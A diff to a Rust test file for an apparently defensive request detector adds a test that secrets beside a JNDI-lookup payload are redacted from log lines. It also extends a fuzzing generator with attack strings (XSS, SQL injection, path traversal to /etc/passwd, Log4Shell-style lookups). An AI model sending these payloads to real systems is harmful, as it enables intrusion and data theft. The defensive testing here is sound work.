@@ -267,6 +267,18 @@ fn a_secret_beside_an_attack_goes_however_its_field_is_named() {
 }
 
 #[test]
+fn where_only_the_whole_text_would_do_a_secret_in_it_goes_with_the_body() {
+    let report = r#"{"csp-report":{"token":"hunter2","blocked-uri":"${jndi:ldap://198.51.100.7/a}"}}"#;
+    for body in [report.to_owned(), format!("password=hunter2&{}", report.replace("token", "a"))] {
+        let mut facts = bare(1_700_000_000_000_001);
+        facts.body = Fact::Known(BodyPrefix { kind: BodyKind::Form, bytes: body.as_bytes(), complete: true });
+        let verdict = judge().request(&facts, Observe::Note).verdict;
+        let line = written(&facts, &verdict, &Around::default(), Observe::Note);
+        assert!(!line.contains("hunter2"), "{line}");
+    }
+}
+
+#[test]
 fn what_a_name_tells_the_detector_is_told_by_its_mask() {
     // The same text is an editor's under one name and an attack under another; neither name is one that is kept.
     let text = "<img src=x onerror=alert(1)>";
@@ -316,8 +328,8 @@ fn a_line_keeps_its_bound_and_says_so() {
 }
 
 fn body() -> impl Strategy<Value = (BodyKind, Vec<u8>)> {
-    let word = "(website|palisade_token|cmd|file|url|q|name|password|a comment|my file|[a-z\"<']{0,6})";
-    let value = "(|\\+| |[a-zA-Z0-9 ]{0,9}|ls|id|1 or 1=1|<b>x</b>|../../etc/passwd|http://a.example/x|[ -~]{0,12}|é\
+    let word = "(website|palisade_token|cmd|file|url|q|name|value|password|p%61ss|auth|a comment|my file|[a-z\"<']{0,6})";
+    let value = "(|\\+| |password|[a-zA-Z0-9 ]{0,9}|ls|id|1 or 1=1|<b>x</b>|../../etc/passwd|http://a.example/x|[ -~]{0,12}|é\
                  |[ -~é]{0,9}(<script>alert\\(1\\)</script>|' or '1'='1|1' union select null--|%2527%c0%ae|\\$\\{jndi:ldap://h/a\\})[ -~]{0,9})";
     let pair = (word, value);
     let pairs = prop::collection::vec(pair, 0..5);
